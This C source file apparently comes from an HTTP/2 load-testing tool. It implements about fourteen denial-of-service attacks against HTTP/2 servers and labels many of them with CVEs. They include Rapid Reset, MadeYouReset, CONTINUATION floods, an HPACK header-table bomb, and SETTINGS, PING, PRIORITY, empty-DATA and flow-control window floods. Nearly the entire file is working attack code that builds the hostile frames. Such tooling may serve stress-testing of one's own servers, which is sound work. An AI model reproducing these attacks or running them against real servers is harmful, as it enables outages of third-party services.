#include "load/attack.h"

#include "load/http2.h"

enum {
    REQUEST_MAX = 64,       /* bytes of a request, beside authority and path */
    BOMB_VALUE_SIZE = 4000, /* with name and 32 a little less than the 4,096 that a dynamic table has */
    BOMB_FIELDS = 8000,     /* bytes of a request, each a field of BOMB_VALUE_SIZE: 32 MB */
    FIELDS_OF_PIECE = 64,   /* of a head without end, in one CONTINUATION */
    FIELD_VALUE_SIZE = 100,
    PRIORITY_STREAMS = 1000,
};

static void put_request(struct attacker *attacker, struct frames *frames, bool post) {
    http2_put_request(frames, post ? HPACK_METHOD_POST : HPACK_METHOD_GET, attacker->authority, attacker->path);
}

static uint32_t next_stream(struct attacker *attacker) {
    attacker->stream += attacker->stream == 0 ? 1 : 2;
    return attacker->stream;
}

/* A whole head. `post`: its body is to come, so the stream stays open. */
static uint32_t open_stream(struct attacker *attacker, struct frames *frames, bool post) {
    unsigned flags = FRAME_END_HEADERS | (post ? 0 : FRAME_END_STREAM);
    size_t begin = frames_begin(frames, FRAME_HEADERS, flags, next_stream(attacker));

    put_request(attacker, frames, post);
    frames_end(frames, begin);
    return attacker->stream;
}

/* CVE-2023-44487: what the server does for the request is thrown away, and the next may come at once. */
static void reset_request(struct attacker *attacker, struct frames *frames) {
    frames_number(frames, FRAME_RST_STREAM, open_stream(attacker, frames, false), FRAME_CANCEL);
}

/*
 * CVE-2025-8671: a frame by which the window of the stream is too large makes the server reset it. Every other request waits
 * for its body, so that it is there even where the server answers at once.
 */
static void have_request_reset(struct attacker *attacker, struct frames *frames) {
    uint32_t stream = open_stream(attacker, frames, attacker->repeats % 2 == 1);

    frames_number(frames, FRAME_WINDOW_UPDATE, stream, FRAME_WINDOW_MAX);
}

static void begin_head(struct attacker *attacker, struct frames *frames) {
    size_t begin = frames_begin(frames, FRAME_HEADERS, FRAME_END_STREAM, next_stream(attacker));

    put_request(attacker, frames, false);
    frames_end(frames, begin);
}

/* CVE-2024-27316 and others, with frames that cost the attacker 9 bytes. */
static void continue_with_nothing(struct attacker *attacker, struct frames *frames) {
    frames_empty(frames, FRAME_CONTINUATION, 0, attacker->stream);
}

/* The same with fields. */
static void continue_with_fields(struct attacker *attacker, struct frames *frames) {
    static const char value[FIELD_VALUE_SIZE + 1] =
        "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789";
    size_t begin = frames_begin(frames, FRAME_CONTINUATION, 0, attacker->stream);

    for (int i = 0; i < FIELDS_OF_PIECE; i++) {
        hpack_literal(frames, false, bytes_of_string("x-endless"), bytes_of_string(value));
    }
    frames_end(frames, begin);
}

/* CVE-2016-6581: one large field, which the server shall keep in its table. */
static void place_bomb(struct attacker *attacker, struct frames *frames) {
    uint8_t value[BOMB_VALUE_SIZE];
    size_t begin = frames_begin(frames, FRAME_HEADERS, FRAME_END_HEADERS | FRAME_END_STREAM, next_stream(attacker));

    memset(value, 'b', sizeof value);
    put_request(attacker, frames, false);
    hpack_literal(frames, true, bytes_of_string("x-bomb"), bytes_of(value, sizeof value));
    frames_end(frames, begin);
}

/* A request of thousands of fields, each a byte that names the large one. */
static void explode_bomb(struct attacker *attacker, struct frames *frames) {
    size_t begin = frames_begin(frames, FRAME_HEADERS, FRAME_END_HEADERS | FRAME_END_STREAM, next_stream(attacker));

    put_request(attacker, frames, false);
    for (int i = 0; i < BOMB_FIELDS; i++) {
        hpack_indexed(frames, HPACK_DYNAMIC);
    }
    frames_end(frames, begin);
}

/* CVE-2019-9515: each has to be acknowledged, and changes something. */
static void change_settings(struct attacker *attacker, struct frames *frames) {
    uint32_t turn = attacker->repeats % 2;
    size_t begin = frames_begin(frames, FRAME_SETTINGS, 0, 0);

    frames_put_setting(frames, FRAME_HEADER_TABLE_SIZE, 4096 * turn);
    frames_put_setting(frames, FRAME_INITIAL_WINDOW_SIZE, FRAME_INITIAL_WINDOW + turn);
    frames_end(frames, begin);
}

/* CVE-2019-9512 */
static void ping(struct attacker *attacker, struct frames *frames) {
    uint8_t data[8];

    memcpy(data, &attacker->repeats, sizeof data);
    frames_ping(frames, 0, data);
}

/* CVE-2019-9513: streams that no request uses change their places in the tree of RFC 7540 section 5.3. */
static void change_priority(struct attacker *attacker, struct frames *frames) {
    enum { EXCLUSIVE = 0x80000000 };
    uint32_t place = attacker->repeats % PRIORITY_STREAMS;
    size_t begin = frames_begin(frames, FRAME_PRIORITY, 0, 2 * place + 1);

    frames_put_u32(frames, EXCLUSIVE | (2 * ((place + 1) % PRIORITY_STREAMS) + 1));
    frames_put(frames, bytes_of("\xff", 1));
    frames_end(frames, begin);
}

/* CVE-2019-9518 */
static void send_no_data(struct attacker *attacker, struct frames *frames) {
    if (attacker->held[0] == 0) {
        attack_hold(attacker, frames);
    }
    frames_empty(frames, FRAME_DATA, 0, attacker->held[0]);
}

/* CVE-2019-9511: one byte of an answer may leave, in a frame of its own. */
static void let_a_byte_pass(struct attacker *attacker, struct frames *frames) {
    uint32_t *stream = &attacker->held[attacker->repeats % attacker->attack->streams];

    if (*stream == 0) {
        *stream = open_stream(attacker, frames, false);
    } else {
        frames_number(frames, FRAME_WINDOW_UPDATE, *stream, 1);
    }
}

const struct attack attack_rapid_reset = {.repeat = reset_request, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_made_reset = {.repeat = have_request_reset, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_continuation = {
    .begin = begin_head, .repeat = continue_with_nothing, .open_head = true, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_endless_head = {
    .begin = begin_head, .repeat = continue_with_fields, .open_head = true, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_hpack_bomb = {.begin = place_bomb, .repeat = explode_bomb, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_settings = {.repeat = change_settings, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_settings_deaf = {.repeat = change_settings, .deaf = true, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_ping = {.repeat = ping, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_ping_deaf = {.repeat = ping, .deaf = true, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_priority = {.repeat = change_priority, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_empty_data = {
    .repeat = send_no_data, .streams = 1, .posts = true, .window = FRAME_INITIAL_WINDOW};
const struct attack attack_tiny_window = {.repeat = let_a_byte_pass, .streams = 64, .window = 1};
const struct attack attack_zero_window = {.streams = ATTACK_STREAMS_MAX, .window = 0};
const struct attack attack_half_open = {.streams = ATTACK_STREAMS_MAX, .posts = true, .window = FRAME_INITIAL_WINDOW};

void attack_begin(struct attacker *attacker, struct frames *frames) {
    const struct attack *attack = attacker->attack;

    frames_preface(frames);
    size_t begin = frames_begin(frames, FRAME_SETTINGS, 0, 0);
    frames_put_setting(frames, FRAME_ENABLE_PUSH, 0);
    frames_put_setting(frames, FRAME_INITIAL_WINDOW_SIZE, attack->window);
    frames_end(frames, begin);
    /* The windows of streams alone hold answers back. */
    frames_number(frames, FRAME_WINDOW_UPDATE, 0, FRAME_WINDOW_MAX - FRAME_INITIAL_WINDOW);
    if (attack->begin != NULL) {
        attack->begin(attacker, frames);
    }
    attack_hold(attacker, frames);
}

void attack_repeat(struct attacker *attacker, struct frames *frames) {
    attacker->attack->repeat(attacker, frames);
    attacker->repeats++;
}

void attack_hold(struct attacker *attacker, struct frames *frames) {
    size_t size = REQUEST_MAX + strlen(attacker->authority) + strlen(attacker->path);

    for (uint32_t i = 0; i < attacker->attack->streams && frames_room(frames) >= size; i++) {
        if (attacker->held[i] == 0) {
            attacker->held[i] = open_stream(attacker, frames, attacker->attack->posts);
        }
    }
}

/* A stream is still there when the server has answered and the client goes on with its body. */
void attack_note_end(struct attacker *attacker, uint32_t stream, bool reset) {
    for (uint32_t i = 0; i < attacker->attack->streams; i++) {
        if (attacker->held[i] == stream && (reset || !attacker->attack->posts)) {
            attacker->held[i] = 0;
        }
    }
}
